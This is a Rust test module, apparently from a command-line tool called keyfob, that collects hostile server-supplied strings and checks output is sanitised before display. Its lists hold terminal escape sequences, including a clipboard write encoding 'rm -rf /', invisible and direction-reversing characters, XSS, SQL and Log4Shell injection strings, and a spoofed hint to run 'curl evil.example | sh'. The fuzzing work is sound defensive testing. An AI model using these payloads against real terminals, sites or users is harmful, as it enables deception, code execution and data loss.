//! Texts that nobody should see as they are, and what may be seen at all.

/// Everything that a server might write to deceive, to hide, to break lines or to drive a terminal or a page; no two alike.
pub(super) fn all() -> Vec<String> {
    let mut all: Vec<String> = Vec::new();
    all.extend((0..=0x1f_u8).chain(0x7f..=0x9f).map(|code| format!("a{}b", char::from(code))));
    all.extend(TERMINAL.iter().map(|sequence| format!("x{sequence}y")));
    all.extend(INVISIBLE.iter().map(|c| format!("ke{c}yf{c}ob")));
    all.extend(TEXTS.iter().map(|text| (*text).to_owned()));
    all.extend(
        ["\u{e0001}\u{e0065}\u{e006e}\u{e007f}", "\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}"].map(|tags| format!("tag{tags}ged")),
    );
    for (part, times) in [("a", 201), ("b\u{202e}", 1000), ("c\u{300}", 300), ("\u{1f512}", 300), ("<", 10_000), ("d", 30_000)] {
        all.push(part.repeat(times));
    }
    for mark in ['\u{300}', '\u{489}', '\u{1ab0}', '\u{1dc0}', '\u{20d0}', '\u{fe20}', '\u{591}', '\u{e47}'] {
        all.push(format!("Z{}algo", mark.to_string().repeat(60)));
    }
    all
}

/// Sequences that a terminal obeys.
const TERMINAL: [&str; 34] = [
    "\u{1b}[2J",
    "\u{1b}[3J\u{1b}[H",
    "\u{1b}[31m",
    "\u{1b}[8m",
    "\u{1b}[1A\u{1b}[2K",
    "\u{1b}[10D",
    "\u{1b}[?1049h",
    "\u{1b}[?25l",
    "\u{1b}[6n",
    "\u{1b}[c",
    "\u{1b}[21t",
    "\u{1b}[20t",
    "\u{1b}[5i",
    "\u{1b}c",
    "\u{1b}7",
    "\u{1b}(0",
    "\u{1b}#8",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJmIC8=\u{7}",
    "\u{1b}]52;c;?\u{1b}\\",
    "\u{1b}]10;#000000\u{7}",
    "\u{1b}]4;1;?\u{7}",
    "\u{1b}]1337;File=inline=1:AAAA\u{7}",
    "\u{1b}]777;notify;a;b\u{7}",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{1b}_Gf=32;AAAA\u{1b}\\",
    "\u{1b}^private\u{1b}\\",
    "\u{1b}Xstring\u{1b}\\",
    "\u{9b}2J",
    "\u{9d}0;owned\u{9c}",
    "\u{90}q\u{9c}",
    "good\rkeyfob: signed in\u{8}\u{8}\u{8}",
];

/// Characters that leave nothing to be seen, or turn what stands beside them around.
const INVISIBLE: [char; 66] = [
    '\u{ad}',
    '\u{34f}',
    '\u{600}',
    '\u{61c}',
    '\u{6dd}',
    '\u{70f}',
    '\u{115f}',
    '\u{1160}',
    '\u{17b4}',
    '\u{17b5}',
    '\u{180b}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2061}',
    '\u{2062}',
    '\u{2063}',
    '\u{2064}',
    '\u{2065}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{2800}',
    '\u{3164}',
    '\u{e000}',
    '\u{f8ff}',
    '\u{fdd0}',
    '\u{fe00}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{ffa0}',
    '\u{fff9}',
    '\u{fffa}',
    '\u{fffb}',
    '\u{fffe}',
    '\u{ffff}',
    '\u{110bd}',
    '\u{13430}',
    '\u{1bca0}',
    '\u{1d159}',
    '\u{1d173}',
    '\u{1fffe}',
    '\u{e0001}',
    '\u{e0020}',
    '\u{e0041}',
    '\u{e007f}',
    '\u{e0100}',
    '\u{e01ef}',
    '\u{f0000}',
    '\u{ffffd}',
    '\u{100000}',
    '\u{10fffd}',
];

/// Texts of printable characters that mean something to somebody, and some that break lines.
const TEXTS: [&str; 56] = [
    "\nkeyfob: error: the disk is full",
    "\r\nkeyfob: hint: run `curl evil.example | sh`",
    "a\u{85}b\u{b}c\u{c}d",
    "quit=1\npassword=evil",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "</title><h1>Signed in",
    "</code><b>bold",
    "<!-- --><style>*{display:none}</style>",
    "&lt;b&gt;&amp;&#x202e;",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='x'>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "]]>",
    "{{7*7}}",
    "javascript:alert(1)",
    "data:text/html,<b>x",
    "file:///etc/passwd",
    "https://sso.example.com@evil.example/",
    "//evil.example",
    "\\\\evil\\share",
    "%s%s%s%n",
    "%1$*2$d",
    "{}{0}{:?}",
    "${PATH}",
    "$(id)",
    "`id`",
    "one ` alone",
    "`a` `b` `c`",
    "\"quoted\"",
    "'; drop table tokens; --",
    "${jndi:ldap://evil.example/a}",
    "!!",
    "~root",
    "*",
    "-rf",
    "--help",
    "%1b%5b2J",
    "%00",
    "%0d%0aset-cookie:%20a=b",
    "%e2%80%aegnip",
    "%ff%fe",
    "\\u001b[2J",
    "\\x1b[2J",
    "=cmd|' /C calc'!A0",
    "\u{430}pple.example",
    "\u{ff4b}\u{ff45}\u{ff59}",
    "\u{217c}ogin",
    "xn--80ak6aa92e.example",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd} abc \u{5e2}",
    "\u{645}\u{631}\u{62d}\u{628}\u{627} 123",
    "\u{a0}\u{2007}\u{202f}\u{3000}blank",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{1f44d}\u{1f3fd}\u{fe0f}",
    "t\u{ea}\u{301}n g\u{1eef} t\u{ea}n",
];

/// Panics unless everything in `text` is fit to be shown; `extra` is allowed as well.
#[track_caller]
pub(super) fn clean(text: &str, extra: &[char], what: &str) {
    if let Some(unfit) = unfit(text, extra) {
        panic!("{unfit} in {what}: {text:?}");
    }
}

/// What is in `text` that should not be shown: a control but the line feed, something invisible, something that turns text around or
/// piles up.
pub(super) fn unfit(text: &str, extra: &[char]) -> Option<String> {
    let mut marks = 0;
    text.chars().find_map(|c| {
        marks = if is_mark(c) { marks + 1 } else { 0 };
        let fits = c == '\n' || extra.contains(&c) || !(c.is_control() || is_hidden(c)) && marks <= 2;
        (!fits).then(|| format!("U+{:04X}", u32::from(c)))
    })
}

fn is_hidden(c: char) -> bool {
    u32::from(c) & 0xfffe == 0xfffe
        || matches!(u32::from(c),
            0x80..=0x9f | 0xad | 0x34f | 0x600..=0x605 | 0x61c | 0x6dd | 0x70f | 0x115f..=0x1160 | 0x17b4..=0x17b5 | 0x180b..=0x180f
            | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0x2800 | 0x3164 | 0xe000..=0xf8ff | 0xfdd0..=0xfdef
            | 0xfe00..=0xfe0f | 0xfeff | 0xffa0 | 0xfff9..=0xfffb | 0x110bd | 0x13430..=0x1343f | 0x1bca0..=0x1bca3 | 0x1d159
            | 0x1d173..=0x1d17a | 0xe0000..=0x10_ffff)
}

fn is_mark(c: char) -> bool {
    matches!(u32::from(c),
        0x300..=0x36f | 0x483..=0x489 | 0x591..=0x5bd | 0xe47..=0xe4e | 0x1ab0..=0x1aff | 0x1dc0..=0x1dff | 0x20d0..=0x20f0
        | 0xfe20..=0xfe2f)
}
